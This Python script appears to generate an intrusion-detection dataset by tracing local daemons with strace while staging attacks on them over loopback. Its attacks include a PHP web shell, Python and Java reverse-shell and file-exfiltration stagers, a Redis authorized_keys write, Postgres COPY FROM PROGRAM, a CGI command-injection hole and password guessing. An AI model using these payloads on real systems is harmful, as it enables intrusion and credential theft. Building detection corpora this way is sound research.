#!/usr/bin/env python3
"""Records the system calls of real daemons, at work and under attack, as rows
trace,set,family,attack,len,calls for `whorl-eval syscalls`: family is the program
or, of an attack, its kind; attack then says whose threads they are.

Every daemon runs under strace on the loopback of this machine, in a folder of
its own, and is stopped at the end. Attacks are foreign behaviour inside the
daemons' own processes: guessed passwords, a web shell, a stager that runs a
shell, files copied out, a user added (to a copy of the files), a miner-like loop.
They harm nothing: every target is the daemon this script started.

    record_syscalls.py --out recorded.csv.zst [--seed 1] [--sessions 3] [--keep DIR]
    record_syscalls.py --out injected.csv.zst --inject recorded.csv.zst

The second makes a harder corpus of the first: into every other normal trace of
the test, pieces of what attackers did to *other* daemons are put, so that every
attack is mostly ordinary work, and most of what is foreign is known from elsewhere.

Needs: strace zstd nginx-light redis-server vsftpd openssh-server dropbear-bin
apache2 libapache2-mod-php postgresql default-jdk-headless nodejs busybox lftp
git sqlite3. A daemon that is not installed is left out with a message.
"""

import argparse
import csv
import ftplib
import json
import os
import pathlib
import random
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
import urllib.request

LINE = re.compile(rb'^(\d+\.\d+) \[ *(\d+)\] \w+\((?:"[^"]*/([^"/]+)", )?(?:.* = 0x([0-9a-f]+)$)?')
FORKS = {56, 57, 58, 435}  # clone, fork, vfork, clone3 of x86-64
LEAST = 40  # calls; shorter traces say nothing
PYTHON = "/usr/bin/python3"


class Recording:
    """One daemon or script under strace, and when something foreign was done to it."""

    def __init__(self, folder, tag, kind, family, innocent=frozenset()):
        self.prefix = folder / tag
        self.innocent = innocent
        self.kind = kind  # train_normal | valid_normal | attack
        self.family = family
        self.windows = []
        self.process = None
        self.program = ""  # the daemon's, and others that are part of it
        self.own = set()

    def start(self, command, **options):
        self.program = os.path.basename(os.path.realpath(shutil.which(command[0])))
        self.own |= {self.program, os.path.basename(command[0])}
        strace = ["strace", "-ff", "-n", "-ttt", "-qq", "-e", "raw=!execve", "-e", "signal=none", "-o", str(self.prefix), "--"]
        self.process = subprocess.Popen(strace + command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                        stderr=subprocess.DEVNULL, start_new_session=True, **options)

    def stop(self):
        for sign in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.killpg(self.process.pid, sign)
            except ProcessLookupError:
                break
            try:
                self.process.wait(5)
                break
            except subprocess.TimeoutExpired:
                pass
        # A daemon that left the group is still a child of strace's session.
        for entry in pathlib.Path("/proc").iterdir():
            if entry.name.isdigit():
                try:
                    if os.getsid(int(entry.name)) == self.process.pid:
                        os.kill(int(entry.name), signal.SIGKILL)
                except OSError:
                    pass

    def foreign(self, action):
        """Runs one action of the attacker and remembers when."""
        begin = time.time()
        try:
            action()
        except (OSError, EOFError, ftplib.Error, subprocess.SubprocessError):
            pass
        time.sleep(0.05)
        self.windows.append((begin, time.time()))

    def threads(self):
        """(events, programs) of every thread: (time, call) and the program it ran at each of them."""
        files = []
        for path in self.prefix.parent.glob(self.prefix.name + ".*"):
            events = [(float(m[1]), int(m[2]), m[3], m[4]) for m in map(LINE.match, path.open("rb")) if m]
            if events:
                files.append((events[0][0], int(path.suffix[1:]), events))
        inherited = {}
        for _, thread, events in sorted(files):
            program, programs = inherited.get(thread, self.program), []
            for _, call, started, result in events:
                if call == 59 and started:
                    program = started.decode()
                elif call in FORKS and result:
                    inherited[int(result, 16)] = program
                programs.append(program)
            yield [(t, c) for t, c, _, _ in events], programs

    def traces(self, rng, ordinary):
        """(set, calls) of every thread, long ones cut into pieces of uneven length."""
        for events, programs in self.threads():
            while len(events) >= LEAST:
                size = int(75 * 40 ** rng.random())
                piece, events = events[:size], events[size:]
                program, programs = programs[len(piece) - 1], programs[size:]
                calls = [c for _, c in piece]
                inside = [c for t, c in piece if any(a <= t <= b for a, b in self.windows)]
                if len(inside) < min(20, len(piece) // 4):
                    yield ("valid_normal" if self.kind == "attack" else self.kind), calls
                # A program that runs in normal sessions does here what it does
                # there: only who started it is foreign, which a trace does not
                # say. And a thread that only kept time meanwhile did nothing.
                elif len(set(inside)) > 3 and program not in self.innocent and (program in self.own or program not in ordinary):
                    yield "attack", calls


def have(*programs):
    return all(shutil.which(p) for p in programs)


def wait_for(port):
    for _ in range(300):
        with socket.socket() as s:
            if s.connect_ex(("127.0.0.1", port)) == 0:
                return
        time.sleep(0.1)
    raise OSError(f"nothing listens on {port}")


def quiet(command, **options):
    return subprocess.run(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                          timeout=60, **options).returncode


def get(port, path, data=None, timeout=10):
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", data, timeout) as answer:
            return answer.read()
    except OSError:
        return b""


def files(folder, rng, count=30):
    folder.mkdir(parents=True, exist_ok=True)
    folder.chmod(0o755)
    for i in range(count):
        (folder / f"f{i}.html").write_bytes(rng.randbytes(int(200 * 2000 ** rng.random())))
    return folder


class Listener:
    """The attacker's end of a connection back: sends lines, takes what comes."""

    def __init__(self, lines):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        threading.Thread(target=self.serve, args=(lines,), daemon=True).start()

    def serve(self, lines):
        self.socket.settimeout(10)
        try:
            peer, _ = self.socket.accept()
            peer.settimeout(0.3)
            for line in lines:
                peer.sendall(line.encode() + b"\n")
                try:
                    while peer.recv(65536):
                        pass
                except OSError:
                    pass
            peer.close()
        except OSError:
            pass
        self.socket.close()


SHELL_LINES = ["id", "uname -a", "cat /etc/passwd", "ls -la /etc | head -50", "ps aux | head", "find /etc -name '*.conf' | head",
               "tar cf - /etc/apt 2>/dev/null | base64 | head -200", "cat /proc/net/tcp", "hostname", "cp /etc/group /tmp/.g; rm /tmp/.g"]


def shell_lines(rng):
    return rng.sample(SHELL_LINES, rng.randint(3, 7)) + ["exit"]


# --- daemons: start(recording) -> port, normal(rng), foreign(rng) -------------------------------------------------------


class Nginx:
    family, needs, attack = "nginx", ("nginx",), None
    port = 18080

    def __init__(self, work, rng):
        root = files(work / "www", rng)
        (work / "n.conf").write_text(
            f"daemon off; pid {work}/n.pid; error_log /dev/null; worker_processes 2; events {{}}\n"
            f"http {{ access_log {work}/a.log; client_body_temp_path {work}/b; proxy_temp_path {work}/p; fastcgi_temp_path {work}/f;"
            f" uwsgi_temp_path {work}/u; scgi_temp_path {work}/s;\n server {{ listen 127.0.0.1:{self.port}; root {root}; autoindex on; gzip on; gzip_types *; }} }}\n")
        self.command = ["nginx", "-c", str(work / "n.conf")]

    def normal(self, rng):
        for _ in range(rng.randint(5, 30)):
            get(self.port, rng.choice(["/", f"/f{rng.randrange(30)}.html", "/missing", f"/f{rng.randrange(30)}.html?x=1"]))


class Apache:
    family, needs, attack = "apache-php", ("apache2", "php"), "web_shell"
    port = 18081

    def __init__(self, work, rng):
        root = files(work / "www", rng)
        (root / "page.php").write_text(
            "<?php session_save_path(dirname(__FILE__)); $n=intval($_GET['n']??3); $s=0; for($i=0;$i<$n;$i++){$f=dirname(__FILE__)."
            "\"/f$i.html\"; $s+=filesize($f); if($i%3==0)$s+=strlen(file_get_contents($f));} file_put_contents('/tmp/whorl-count',$s,"
            " LOCK_EX); echo json_encode(['sum'=>$s,'t'=>date('c')]); ?>")
        (root / "upload.php").write_text("<?php if(isset($_FILES['f'])) move_uploaded_file($_FILES['f']['tmp_name'],'/tmp/whorl-up'); echo strlen(file_get_contents('php://input')); ?>")
        (root / "mail.php").write_text("<?php $h=popen('cat >/dev/null','w'); fwrite($h,'mail'); pclose($h); echo 1; ?>")
        # What an attacker left there.
        (root / "img.php").write_text("<?php if(isset($_POST['c'])) echo shell_exec($_POST['c']); if(isset($_POST['r'])) {foreach(scandir($_POST['r']) as $f)"
                                      " if(is_readable($_POST['r'].'/'.$f)&&is_file($_POST['r'].'/'.$f)) echo base64_encode(file_get_contents($_POST['r'].'/'.$f));} ?>")
        modules = pathlib.Path("/usr/lib/apache2/modules")
        php = sorted(modules.glob("libphp*.so"))[-1]
        loads = "".join(f"LoadModule {n}_module {modules}/mod_{n}.so\n" for n in ("mpm_prefork", "authz_core", "dir", "mime"))
        (work / "a.conf").write_text(
            f"ServerName localhost\nServerRoot {work}\nPidFile {work}/a.pid\nListen 127.0.0.1:{self.port}\nErrorLog /dev/null\n{loads}"
            f"LoadModule php_module {php}\nTypesConfig /etc/mime.types\nUser www-data\nGroup www-data\nStartServers 2\nMinSpareServers 1\nMaxSpareServers 3\nMaxRequestWorkers 4\n"
            f"MaxConnectionsPerChild 60\nDocumentRoot {root}\nDirectoryIndex page.php\n<FilesMatch \\.php$>\nSetHandler application/x-httpd-php\n</FilesMatch>\n")
        self.command = ["apache2", "-f", str(work / "a.conf"), "-DFOREGROUND"]

    def normal(self, rng):
        for _ in range(rng.randint(3, 12)):
            kind = rng.random()
            if kind < 0.5:
                get(self.port, f"/page.php?n={rng.randrange(20)}")
            elif kind < 0.8:
                get(self.port, f"/f{rng.randrange(30)}.html")
            elif kind < 0.95:
                get(self.port, "/upload.php", rng.randbytes(rng.randint(10, 50000)))
            else:
                get(self.port, "/mail.php")

    def foreign(self, rng):
        for _ in range(rng.randint(1, 3)):
            if rng.random() < 0.3:
                field = {"r": rng.choice(["/etc", "/etc/apt", "/etc/ssh", "/usr/share/doc/bash"])}
            else:
                field = {"c": "; ".join(rng.sample(SHELL_LINES, rng.randint(1, 3)))}
            get(self.port, "/img.php", urllib.parse.urlencode(field).encode())


class Redis:
    family, needs, attack = "redis", ("redis-server",), "file_write"
    port = 16379

    def __init__(self, work, rng):
        self.work = work
        self.command = ["redis-server", "--port", str(self.port), "--bind", "127.0.0.1", "--dir", str(work), "--save", "5", "50", "--appendonly",
                        rng.choice(["yes", "no"]), "--enable-protected-configs", "yes", "--io-threads", "1"]

    def talk(self, *commands):
        with socket.create_connection(("127.0.0.1", self.port), 5) as s:
            s.settimeout(2)
            for command in commands:
                s.sendall(b"*%d\r\n" % len(command) + b"".join(b"$%d\r\n%s\r\n" % (len(x), x) for x in command))
                s.recv(65536)

    def normal(self, rng):
        key = lambda: b"k%d" % rng.randrange(500)
        self.talk(*[rng.choice([(b"GET", key()), (b"SET", key(), rng.randbytes(rng.randint(1, 3000))), (b"LPUSH", b"l", key()),
                                (b"HSET", b"h", key(), b"1"), (b"KEYS", b"k1*"), (b"EXPIRE", key(), b"2"), (b"INFO",)]) for _ in range(rng.randint(10, 80))])

    def foreign(self, rng):
        target = self.work / ".ssh"
        target.mkdir(exist_ok=True)
        self.talk((b"FLUSHALL",), (b"SET", b"x", b"\n\nssh-rsa AAAA\n\n"), (b"CONFIG", b"SET", b"dir", str(target).encode()),
                  (b"CONFIG", b"SET", b"dbfilename", b"authorized_keys"), (b"SAVE",))
        self.talk((b"CONFIG", b"SET", b"dir", b"/tmp"), (b"CONFIG", b"SET", b"dbfilename", b".cron"), (b"SAVE",), (b"CONFIG", b"SET", b"dir", str(self.work).encode()),
                  (b"CONFIG", b"SET", b"dbfilename", b"dump.rdb"), (b"SLAVEOF", b"127.0.0.1", b"1"), (b"EVAL", b"local s=0 for i=1,300000 do s=s+i end return s", b"0"), (b"SLAVEOF", b"NO", b"ONE"))


class Ftp:
    family, needs, attack = "vsftpd", ("vsftpd",), "guess_ftp"
    port = 18021

    def __init__(self, work, rng):
        root = files(work / "ftp", rng)
        (root / "up").mkdir(exist_ok=True)
        shutil.chown(root / "up", "ftp")
        (work / "v.conf").write_text(
            f"listen=YES\nlisten_port={self.port}\nlisten_address=127.0.0.1\nanonymous_enable=YES\nlocal_enable=YES\nwrite_enable=YES\nanon_upload_enable=YES\nanon_mkdir_write_enable=YES\n"
            f"anon_root={root}\nno_anon_password=NO\nsecure_chroot_dir=/var/run/vsftpd/empty\nxferlog_enable=YES\nvsftpd_log_file={work}/v.log\nxferlog_file={work}/x.log\npam_service_name=vsftpd\nseccomp_sandbox=NO\nbackground=NO\n")
        pathlib.Path("/var/run/vsftpd/empty").mkdir(parents=True, exist_ok=True)
        self.command = ["vsftpd", str(work / "v.conf")]

    def normal(self, rng):
        try:
            with ftplib.FTP() as ftp:
                ftp.connect("127.0.0.1", self.port, 10)
                ftp.login()
                for _ in range(rng.randint(1, 8)):
                    kind = rng.random()
                    if kind < 0.4:
                        ftp.retrlines("LIST", lambda _: None)
                    elif kind < 0.8:
                        ftp.retrbinary(f"RETR f{rng.randrange(30)}.html", lambda _: None)
                    else:
                        from io import BytesIO
                        ftp.storbinary(f"STOR up/u{rng.randrange(10**6)}", BytesIO(rng.randbytes(rng.randint(10, 90000))))
                ftp.quit()
        except (OSError, EOFError, ftplib.Error):
            pass

    def foreign(self, rng):
        for _ in range(rng.randint(2, 4)):
            try:
                ftp = ftplib.FTP()
                ftp.connect("127.0.0.1", self.port, 10)
                for _ in range(3):
                    try:
                        ftp.login(rng.choice(["root", "admin", "www-data", "ftp1"]), f"pw{rng.randrange(10**6)}")
                    except ftplib.error_perm:
                        pass
                ftp.close()
            except (OSError, EOFError, ftplib.Error):
                pass


class Ssh:
    family, needs, attack = "sshd", ("sshd", "ssh", "dbclient"), "guess_ssh"
    port = 18022

    def __init__(self, work, rng):
        self.work = work
        for name in ("host", "user"):
            subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(work / name)], check=True)
        keys = work / "keys"
        keys.write_text((work / "user.pub").read_text())
        pathlib.Path("/run/sshd").mkdir(exist_ok=True)
        (work / "s.conf").write_text(f"Port {self.port}\nListenAddress 127.0.0.1\nHostKey {work}/host\nAuthorizedKeysFile {keys}\nStrictModes no\nPermitRootLogin yes\n"
                                     f"PasswordAuthentication yes\nUsePAM no\nPidFile none\nMaxAuthTries 6\nMaxStartups 50\nSubsystem sftp internal-sftp\nSetEnv HOME={work}\n")
        self.command = [shutil.which("sshd"), "-D", "-f", str(work / "s.conf")]

    def run(self, line):
        quiet(["ssh", "-F", "none", "-i", str(self.work / "user"), "-p", str(self.port), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
               "-o", "BatchMode=yes", "root@127.0.0.1", line])

    def guess(self, rng):
        quiet(["dbclient", "-y", "-p", str(self.port), f"{rng.choice(['root', 'admin', 'test'])}@127.0.0.1", "true"],
              env={"PATH": os.environ["PATH"], "HOME": str(self.work), "DROPBEAR_PASSWORD": f"pw{rng.randrange(10**6)}"})

    def normal(self, rng):
        if rng.random() < 0.3:
            quiet(["scp", "-q", "-F", "none", "-i", str(self.work / "user"), "-P", str(self.port), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                   "/etc/services", f"root@127.0.0.1:{self.work}/copied"])
        else:
            self.run(rng.choice(["uptime", "ls -l /usr/bin | wc -l", "df -h", "cat /etc/os-release", "dpkg -l | head -20", "grep root /etc/services", "sh -c 'for i in 1 2 3; do date; done'"]))

    def foreign(self, rng):
        for _ in range(rng.randint(2, 4)):
            self.guess(rng)


class AddUser(Ssh):
    """A stolen key: the attacker logs in and adds a user, to a copy of the files."""
    attack = "add_user"
    innocent = frozenset({"sshd"})
    port = 18023

    def foreign(self, rng):
        root = self.work / "root"
        (root / "etc").mkdir(parents=True, exist_ok=True)
        for name in ("passwd", "shadow", "group", "gshadow", "login.defs"):
            shutil.copy(f"/etc/{name}", root / "etc" / name)
        name = f"u{rng.randrange(10**6)}"
        self.run(f"useradd -P {root} -m -s /bin/sh {name}; echo {name}:pw | chpasswd -R {root}; usermod -P {root} -aG root {name}; cat {root}/etc/shadow | base64")


class PythonHttp:
    family, needs, attack = "python-http", (PYTHON,), "stager"
    port = 18084
    code = """
import http.server, socketserver, os, json, hashlib, sys, urllib.parse
os.chdir(sys.argv[1])
class H(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_POST(self):
        body = self.rfile.read(int(self.headers['Content-Length']))
        if self.path == '/eval':
            exec(body.decode(), {})
        else:
            open('/tmp/whorl-post', 'wb').write(hashlib.sha256(body).digest())
        self.send_response(200); self.end_headers(); self.wfile.write(json.dumps({'n': len(body)}).encode())
class S(socketserver.ThreadingMixIn, http.server.HTTPServer): daemon_threads = True
S(('127.0.0.1', int(sys.argv[2])), H).serve_forever()
"""
    stagers = [
        # a shell over the connection
        "import socket,os,subprocess\ns=socket.create_connection(('127.0.0.1',PORT))\nsubprocess.run(['/bin/sh'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())",
        # the same without a new program until the last moment
        "import socket,os\ns=socket.create_connection(('127.0.0.1',PORT))\nif os.fork()==0:\n [os.dup2(s.fileno(),i) for i in range(3)]\n os.execv('/bin/sh',['sh','-i'])\nos.wait()",
        # files read and sent, nothing started
        "import socket,os\ns=socket.create_connection(('127.0.0.1',PORT))\nfor d,_,n in list(os.walk('/etc'))[:25]:\n for f in n[:4]:\n  try: s.sendall(open(os.path.join(d,f),'rb').read())\n  except OSError: pass\ns.close()",
        # stays in memory: small commands from a loop of recv
        "import socket,os,mmap,time\ns=socket.create_connection(('127.0.0.1',PORT))\nm=mmap.mmap(-1,1<<16,prot=7)\nfor i in range(30):\n s.settimeout(.02)\n try: m.write(s.recv(100))\n except OSError: pass\n os.getuid(); os.listdir('/proc'); s.send(b'x'*50)\ns.close()",
    ]

    def __init__(self, work, rng):
        root = files(work / "www", rng)
        (work / "h.py").write_text(self.code)
        self.command = [PYTHON, str(work / "h.py"), str(root), str(self.port)]

    def normal(self, rng):
        for _ in range(rng.randint(3, 20)):
            if rng.random() < 0.8:
                get(self.port, rng.choice(["/", f"/f{rng.randrange(30)}.html", "/none"]))
            else:
                get(self.port, "/post", rng.randbytes(rng.randint(5, 100000)))

    def foreign(self, rng):
        code = rng.choice(self.stagers).replace("PORT", str(Listener(shell_lines(rng)).port))
        get(self.port, "/eval", code.encode(), 15)


class Java:
    family, needs, attack = "java-http", ("java", "javac"), "java_stager"
    port = 18085
    code = """
import com.sun.net.httpserver.*; import java.io.*; import java.net.*; import java.nio.file.*; import java.util.concurrent.*;
public class H { static Path root;
  public static void main(String[] a) throws Exception { root = Paths.get(a[0]);
    HttpServer s = HttpServer.create(new InetSocketAddress("127.0.0.1", Integer.parseInt(a[1])), 20); s.setExecutor(Executors.newFixedThreadPool(4));
    s.createContext("/", x -> { byte[] b; try { b = Files.readAllBytes(root.resolve(x.getRequestURI().getPath().substring(1))); } catch (IOException e) { b = "none".getBytes(); }
      x.sendResponseHeaders(200, b.length); x.getResponseBody().write(b); x.close(); });
    s.createContext("/sum", x -> { long n = 0; try (DirectoryStream<Path> d = Files.newDirectoryStream(root)) { for (Path p : d) n += Files.size(p); }
      byte[] b = ("" + n).getBytes(); x.sendResponseHeaders(200, b.length); x.getResponseBody().write(b); x.close(); });
    s.createContext("/x", x -> { String q = x.getRequestURI().getQuery(); int port = Integer.parseInt(q.substring(1));
      try (Socket c = new Socket("127.0.0.1", port)) {
        if (q.charAt(0) == 's') { BufferedReader r = new BufferedReader(new InputStreamReader(c.getInputStream())); String l;
          while ((l = r.readLine()) != null && !l.equals("exit")) { Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", l}); p.getInputStream().transferTo(c.getOutputStream()); } }
        else if (q.charAt(0) == 'f') { try (var w = Files.walk(Paths.get("/etc"), 2)) { w.limit(200).forEach(p -> { try { if (Files.isRegularFile(p)) c.getOutputStream().write(Files.readAllBytes(p)); } catch (IOException e) {} }); } }
        else { for (int i = 0; i < 6; i++) { Thread t = new Thread(() -> { try { new URLClassLoader(new URL[]{new URL("file:/tmp/")}).loadClass("Nope"); } catch (Exception e) {} 
            for (File g : new File("/proc").listFiles()) new File(g, "cmdline").exists(); }); t.start(); t.join(); c.getOutputStream().write(i); } }
      } catch (Exception e) {} x.sendResponseHeaders(200, -1); x.close(); });
    s.start(); } }
"""

    def __init__(self, work, rng):
        root = files(work / "www", rng)
        (work / "H.java").write_text(self.code)
        subprocess.run(["javac", "-d", str(work), str(work / "H.java")], check=True)
        self.command = ["java", "-Xmx64m", rng.choice(["-XX:+UseSerialGC", "-XX:+UseG1GC"]), "-cp", str(work), "H", str(root), str(self.port)]

    def normal(self, rng):
        for _ in range(rng.randint(3, 20)):
            get(self.port, rng.choice([f"/f{rng.randrange(30)}.html", "/none", "/sum"]))

    def foreign(self, rng):
        get(self.port, f"/x?{rng.choice('sft')}{Listener(shell_lines(rng)).port}", None, 15)


class Node:
    family, needs, attack = "node-http", ("node",), "miner"
    port = 18086
    code = """
const http = require('http'), fs = require('fs'), crypto = require('crypto'), net = require('net'), cp = require('child_process');
const root = process.argv[2];
http.createServer((q, r) => {
  if (q.url.startsWith('/m')) { const c = net.connect(+q.url.slice(2), '127.0.0.1', () => { let i = 0; const step = () => {
      let h = crypto.createHash('sha256'); for (let k = 0; k < 20000; k++) h.update('x' + k); c.write(h.digest('hex') + '\\n'); fs.readFile('/proc/cpuinfo', () => {});
      if (++i < 40) setTimeout(step, 5); else { c.end(); r.end(); } }; step(); }); c.on('error', () => r.end()); }
  else if (q.url.startsWith('/c')) cp.exec("nproc; cat /proc/meminfo; ps aux | sort | head -5; uname -a", () => r.end());
  else if (q.method === 'POST') { let n = 0; q.on('data', d => n += d.length).on('end', () => fs.appendFile('/tmp/whorl-node', n + '\\n', () => r.end('' + n))); }
  else fs.readFile(root + q.url, (e, d) => e ? fs.readdir(root, (_, l) => r.end(JSON.stringify(l))) : r.end(d));
}).listen(+process.argv[3], '127.0.0.1');
"""

    def __init__(self, work, rng):
        root = files(work / "www", rng)
        (work / "h.js").write_text(self.code)
        self.command = ["node", str(work / "h.js"), str(root), str(self.port)]

    def normal(self, rng):
        for _ in range(rng.randint(3, 20)):
            if rng.random() < 0.8:
                get(self.port, rng.choice(["/list", f"/f{rng.randrange(30)}.html"]))
            else:
                get(self.port, "/post", rng.randbytes(rng.randint(5, 100000)))

    def foreign(self, rng):
        get(self.port, "/c" if rng.random() < 0.3 else f"/m{Listener([]).port}", None, 15)


class Postgres:
    family, needs, attack = "postgres", ("psql",), "copy_program"
    parts = ("postgres",)
    port = 15432

    def __init__(self, work, rng):
        bin_dir = sorted(pathlib.Path("/usr/lib/postgresql").glob("*/bin"))[-1]
        self.data = work / "pg"
        self.data.mkdir()
        shutil.chown(self.data, "postgres", "postgres")
        work.chmod(0o755)
        subprocess.run(["su", "postgres", "-c", f"{bin_dir}/initdb -D {self.data} -A trust"], check=True, stdout=subprocess.DEVNULL, cwd="/")
        self.command = ["setpriv", "--reuid", "postgres", "--regid", "postgres", "--clear-groups", str(bin_dir / "postgres"), "-D", str(self.data), "-p", str(self.port), "-h", "127.0.0.1",
                        "-k", str(self.data), "-c", "shared_buffers=16MB", "-c", "autovacuum_naptime=2s", "-c", "fsync=on"]

    def sql(self, text):
        quiet(["psql", "-h", "127.0.0.1", "-p", str(self.port), "-U", "postgres", "-c", text, "postgres"])

    def normal(self, rng):
        self.sql("create table if not exists t(a int, b text)")
        for _ in range(rng.randint(1, 3)):
            n = rng.randint(10, 3000)
            self.sql(rng.choice([f"insert into t select g, repeat('x', g % 90) from generate_series(1,{n}) g", f"select count(*), max(b) from t where a < {n}", f"update t set b = b || 'y' where a % 7 = {n % 7}",
                                 f"delete from t where a > {n}", "select * from t order by b limit 500", "vacuum t", "create index if not exists i on t(a)", "select * from pg_stat_activity", "copy t to stdout"]))

    def foreign(self, rng):
        command = rng.choice(["id; uname -a; cat /etc/passwd", "ls -la /; find /var/lib/postgresql | head -20", "nproc; cat /proc/cpuinfo | head -30; for i in 1 2 3 4 5; do echo x | sha256sum; done"])
        self.sql(rng.choice([f"create temp table c(l text); copy c from program '{command}'; select * from c", "select pg_read_file('/etc/passwd'), pg_ls_dir('/etc')",
                             "create temp table c(l text); insert into c select repeat('x',100) from generate_series(1,2000); copy c to program 'base64 > /dev/null'", "select lo_import('/etc/passwd'), lo_export(lo_import('/etc/group'), '/tmp/.whorl-g')"]))


class Busybox:
    family, needs, attack = "busybox-httpd", ("busybox",), "cgi_shell"
    parts = ("s.sh",)
    port = 18087

    def __init__(self, work, rng):
        root = files(work / "www", rng)
        (root / "cgi-bin").mkdir()
        script = root / "cgi-bin" / "s.sh"
        # The hole: the query is run.
        script.write_text("#!/bin/sh\necho\necho\ncase \"$QUERY_STRING\" in c*) eval \"$(busybox httpd -d \"${QUERY_STRING#c}\")\";; *) date; wc -c < ../f1.html;; esac\n")
        script.chmod(0o755)
        self.command = ["busybox", "httpd", "-f", "-p", f"127.0.0.1:{self.port}", "-h", str(root)]

    def normal(self, rng):
        for _ in range(rng.randint(3, 12)):
            get(self.port, rng.choice([f"/f{rng.randrange(30)}.html", "/none", "/cgi-bin/s.sh"]))

    def foreign(self, rng):
        get(self.port, "/cgi-bin/s.sh?c" + urllib.parse.quote("; ".join(rng.sample(SHELL_LINES, rng.randint(1, 4)))))


DAEMONS = [Nginx, Apache, Redis, Ftp, Ssh, AddUser, PythonHttp, Java, Node, Postgres, Busybox]

# What people and timers run on a server. Those with True are learnt from; the
# others are seen for the first time among the normal traces of the test.
SCRIPTS = [
    (True, "find {w} -name '*.html' -size +10k | xargs -r ls -l | sort -k5 -n | tail"),
    (True, "tar czf {w}/b.tgz {w}/www; ls -l {w}; rm {w}/b.tgz"),
    (True, "cd {w}; git init -q g; cd g; for i in 1 2 3; do date > f$i; git add .; git -c user.name=a -c user.email=a@b commit -qm m$i; done; git log --stat; git gc -q; cd ..; rm -rf g"),
    (True, "printf 'int main(){{return 0;}}' > {w}/m.c; gcc -O1 -o {w}/m {w}/m.c; {w}/m"),
    (True, "sqlite3 {w}/d.db 'create table if not exists t(a); insert into t values(1),(2),(3); select sum(a) from t; delete from t'"),
    (True, "/usr/bin/python3 -c 'import json,os,glob; print(sum(os.path.getsize(f) for f in glob.glob(\"{w}/www/*\")))'"),
    (True, "dpkg-query -W | sort | uniq -c | tail -3; dpkg -L bash | head"),
    (True, "for i in 1 2 3 4 5; do sleep 0.05; date >> {w}/log; done; gzip -f {w}/log"),
    (True, "grep -r listen /etc/apt /etc/apache2 | wc -l; awk -F: '{{print $1}}' /etc/passwd | sort"),
    (True, "perl -e 'for(1..200){{push @a,$_*$_}} print join(\",\",@a)'; sed -n 1,5p /etc/services"),
    (True, "apt-cache policy bash; apt-cache show sed | head"),
    (True, "rsync -a {w}/www/ {w}/copy/ || cp -r {w}/www {w}/copy; rm -r {w}/copy; du -s {w}; df"),
    (False, "openssl req -x509 -newkey rsa:1024 -nodes -keyout {w}/k -out {w}/c -subj /CN=a -days 1; openssl x509 -in {w}/c -text"),
    (False, "cd {w}; printf 'all:\\n\\tg++ -o x x.cc\\n' > Makefile; printf '#include <string>\\nint main(){{}}' > x.cc; make; strip x"),
    (False, "java -version; node -e 'console.log(require(\"os\").cpus().length)'"),
    (False, "tclsh /dev/null; bc </dev/null; man -k nothing; crontab -l"),
    (False, "xz -k -f {w}/www/f1.html; zstd -q -f {w}/www/f2.html -o {w}/z; bzip2 -k -f {w}/www/f3.html; md5sum {w}/www/*"),
    (False, "/usr/bin/python3 -c 'import sqlite3,threading; c=sqlite3.connect(\":memory:\"); [threading.Thread(target=lambda: sum(range(10000))).start() for _ in range(4)]; import ssl,email,xml.dom.minidom'"),
    (False, "ps aux | grep x; top -b -n1; free; uptime; vmstat; lsof -p $$; ss -tln; ip a"),
    (False, "lftp -e 'ls; exit' file:///etc; curl -s file:///etc/services | tail -1; getent passwd root; id; groups"),
    (False, "vim -es -c q; ed -s /etc/passwd </dev/null; diff -r /etc/apt /etc/apache2; split -l 20 /etc/services {w}/sp."),
    (False, "npm --version; cargo --version; go version"),
]


def record_daemon(kind, daemon, folder, number, rng, rounds):
    recording = Recording(folder, f"{kind}-{daemon.family}-{daemon.attack}-{number}", kind, daemon.family,
                          getattr(daemon, "innocent", frozenset()))
    work = folder / f"work-{daemon.family}-{daemon.attack}-{number}-{kind}"
    work.mkdir()
    work.chmod(0o755)
    try:
        it = daemon(work, rng)
        recording.own |= set(getattr(daemon, "parts", ()))
        recording.start(it.command, cwd=work)
        wait_for(it.port)
        for i in range(rounds):
            it.normal(rng)
            if kind == "attack" and i >= rounds // 3:
                recording.foreign(lambda: it.foreign(rng))
        time.sleep(0.5)
    except (OSError, subprocess.SubprocessError) as why:
        print(f"{daemon.family}: {why}", file=sys.stderr)
    finally:
        if recording.process:
            recording.stop()
    return recording


def record_scripts(kind, folder, number, rng):
    work = folder / f"scripts-{number}-{kind}"
    files(work / "www", rng)
    for i, (learnt, line) in enumerate(SCRIPTS):
        if rng.random() < 0.2 if learnt else kind == "train_normal" or rng.random() < 0.7:
            continue
        recording = Recording(folder, f"{kind}-script-{number}-{i}", kind, "scripts")
        recording.start(["bash", "-c", line.format(w=work)], cwd=work)
        try:
            recording.process.wait(60)
        except subprocess.TimeoutExpired:
            pass
        recording.stop()
        yield recording


def write(path, kept):
    plain = path.removesuffix(".zst")
    with open(plain, "w", newline="") as out:
        writer = csv.writer(out, lineterminator="\n")
        writer.writerow(["trace", "set", "family", "attack", "len", "calls"])
        for i, (which, family, attack, calls) in enumerate(kept):
            writer.writerow([f"t{i:05}", which, family, attack, len(calls), " ".join(map(str, calls))])
    if plain != path:
        subprocess.run(["zstd", "-q", "-19", "-f", "--rm", plain, "-o", path], check=True)


def read(path):
    text = subprocess.run(["zstd", "-dcf", path], check=True, capture_output=True, text=True).stdout
    csv.field_size_limit(1 << 30)
    return [(r["set"], r["family"], r["attack"], r["calls"].split()) for r in csv.DictReader(text.splitlines())]


def inject(recorded, rng):
    """Half of the normal test traces as they are, half with foreign pieces; 5 to 40 % of the trace, 8 to 50 calls each."""
    foreign = [(daemon, calls) for which, _, daemon, calls in recorded if which == "attack"]
    normal = [(family, calls) for which, family, _, calls in recorded if which == "valid_normal"]
